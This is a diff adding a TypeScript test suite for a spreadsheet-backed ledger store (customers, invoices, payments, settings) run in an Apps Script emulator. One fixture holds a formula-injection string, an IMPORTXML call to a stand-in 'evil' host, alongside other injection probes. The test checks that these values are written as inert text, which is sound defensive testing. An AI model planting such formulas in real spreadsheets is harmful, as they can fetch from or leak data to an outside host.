@@ -1,0 +1,154 @@
+// The SpreadsheetApp LedgerStore in the emulator's bare realm: leading zeros and formula-looking text survive a
+// write and a read, updates touch only the named columns of the changed rows (user columns never), appends grow a
+// full grid, and reads cost a bounded number of calls.
+import path from 'node:path';
+import * as esbuild from 'esbuild';
+import { createEnvironment } from '../../emulator/src/index';
+import { columnsOf } from '../../src/domain/schema';
+
+type Env = ReturnType<typeof createEnvironment>;
+
+function tab(env: Env, name: string) {
+  const s = env.spreadsheet.api().getSheetByName(name);
+  if (!s) throw new Error(`no sheet ${name}`);
+  return s;
+}
+const FNS = ['readTable', 'appendRecords', 'updateRecords', 'settingsMap'];
+
+function harness(): string {
+  const out = esbuild.buildSync({
+    entryPoints: [path.join(__dirname, 'harness/store-harness.ts')],
+    bundle: true,
+    format: 'iife',
+    globalName: 'Harness',
+    target: 'es2020',
+    platform: 'neutral',
+    mainFields: ['module', 'main'],
+    write: false,
+  });
+  const stubs = FNS.map((f) => `function ${f}(a, b, c) { return Harness.${f}(a, b, c); }`).join('\n');
+  return `${out.outputFiles[0].text}\n${stubs}`;
+}
+
+const code = harness();
+
+function workbook() {
+  const env = createEnvironment({ now: '2026-03-02T09:00:00+08:00', timeZone: 'Asia/Shanghai', locale: 'zh_CN' });
+  env.loadBuild('dist');
+  env.openAsUser('owner@example.com');
+  env.clickMenu('setupWorkbook');
+  env.loadScript(code);
+  return env;
+}
+
+describe('SheetLedgerStore', () => {
+  test('leading zeros, phones and formula injection strings are written as text and read back exactly', () => {
+    const env = workbook();
+    const tricky = {
+      id: '0000611365',
+      name: '=IMPORTXML("http://evil","//a")',
+      contact: '+SUM(1,2)',
+      phone: '+86 138 0013 8000',
+      notes: "@everyone -5 'quoted",
+      address: '2024-01-05',
+      type: 'company' as const,
+      creditLimit: 1234567,
+      remindersPaused: true,
+      birthDate: '1990-02-03',
+    };
+    const rows = env.run('appendRecords', ['customers', [tricky]]);
+    expect(rows).toEqual([2]);
+    const cells = env.values('客户')[1];
+    const col = (k: string) => cells[columnsOf('customers').findIndex((c) => c.key === k)];
+    expect(col('id')).toBe('0000611365');
+    expect(col('name')).toBe('=IMPORTXML("http://evil","//a")');
+    expect(tab(env, '客户').getRange('B2').getFormula()).toBe('');
+    expect(col('type')).toBe('企业');
+    expect(col('creditLimit')).toBe(12345.67);
+    expect(col('remindersPaused')).toBe(true);
+    const back = env.run('readTable', ['customers']) as {
+      rows: Array<{ row: number; record: Record<string, unknown> }>;
+    };
+    expect(back.rows[0].record).toMatchObject(tricky);
+  });
+
+  test('update writes only the named columns of the changed rows; user columns and other rows untouched', () => {
+    const env = workbook();
+    const sheet = tab(env, '应收账款');
+    const width = columnsOf('invoices').length;
+    sheet.getRange(1, width + 1).setValue('Mine');
+    sheet.getRange(2, 1, 3, 7).setValues([
+      ['I-1', 'C-1', '', '', '2026-01-01', '2026-01-31', 100],
+      ['I-2', 'C-1', '', '', '2026-01-01', '2026-01-31', 200],
+      ['I-3', 'C-1', '', '', '2026-01-01', '2026-01-31', 300],
+    ]);
+    sheet.getRange(2, width + 1, 3, 1).setValues([['u1'], ['u2'], ['u3']]);
+    env.resetCounts();
+    const t = env.run('updateRecords', [
+      'invoices',
+      [
+        { row: 2, record: { outstanding: 5000, agingBucket: '1-30', notes: 'n' } },
+        { row: 4, record: { outstanding: 7000, agingBucket: '90+' } },
+      ],
+      ['outstanding', 'agingBucket'],
+    ]) as { rows: Array<{ record: Record<string, unknown> }> };
+    // outstanding and agingBucket are not adjacent: one setValues per column run, each over rows 2..4 (row 3 as read)
+    expect(env.counts()['SpreadsheetApp.Range.setValues']).toBe(2);
+    const v = env.values('应收账款');
+    const i = (k: string) => columnsOf('invoices').findIndex((c) => c.key === k);
+    expect(v.map((r) => r[i('outstanding')])).toEqual(['未收金额', 50, '', 70]);
+    expect(v.map((r) => r[i('agingBucket')])).toEqual(['账龄', '1-30天', '', '90天以上']);
+    expect(v.map((r) => r[i('notes')])).toEqual(['备注', '', '', '']);
+    expect(v.map((r) => r[width])).toEqual(['Mine', 'u1', 'u2', 'u3']);
+    expect(t.rows.map((r) => r.record.outstanding)).toEqual([5000, 0, 7000]);
+    expect(t.rows[0].record.issueDate).toBe('2026-01-01');
+  });
+
+  test('append grows a full grid instead of addressing beyond it', () => {
+    const env = workbook();
+    const sheet = tab(env, '回款');
+    sheet.deleteRows(3, sheet.getMaxRows() - 2); // 2 rows left: header + one free row
+    const records = [1, 2, 3].map((n) => ({
+      id: `P-00000${n}`,
+      invoiceId: 'I-1',
+      date: '2026-03-01',
+      amount: n * 100,
+    }));
+    expect(env.run('appendRecords', ['payments', records])).toEqual([2, 3, 4]);
+    expect(env.values('回款').length).toBe(4);
+  });
+
+  test('a bad typed cell becomes a RowIssue and the row is skipped', () => {
+    const env = workbook();
+    const sheet = tab(env, '应收账款');
+    sheet.getRange(2, 1, 2, 7).setValues([
+      ['I-1', 'C-1', '', '', '2026-01-01', '2026-01-31', 'lots'],
+      ['I-2', 'C-1', '', '', '2026-01-01', '2026-01-31', 10],
+    ]);
+    const t = env.run('readTable', ['invoices']) as { rows: unknown[]; issues: Array<Record<string, unknown>> };
+    expect(t.rows.length).toBe(1);
+    expect(t.issues).toEqual([
+      {
+        role: 'invoices',
+        row: 2,
+        field: 'amount',
+        message: {
+          'zh-CN': '金额：请输入金额（最多两位小数）',
+          en: 'Amount must be an amount with at most two decimals',
+        },
+      },
+    ]);
+  });
+
+  test('settings: sheet values over defaults', () => {
+    const env = workbook();
+    const sheet = tab(env, '设置');
+    const keys = env.values('设置').map((r) => r[0]);
+    sheet.getRange(keys.indexOf('defaultCurrency') + 1, 2).setValue('USD');
+    sheet.deleteRow(keys.indexOf('companyName') + 1);
+    const m = env.run('settingsMap', []) as Record<string, string>;
+    expect(m.defaultCurrency).toBe('USD');
+    expect(m.companyName).toBe('');
+    expect(m['reminders.hour']).toBe('9');
+  });
+});
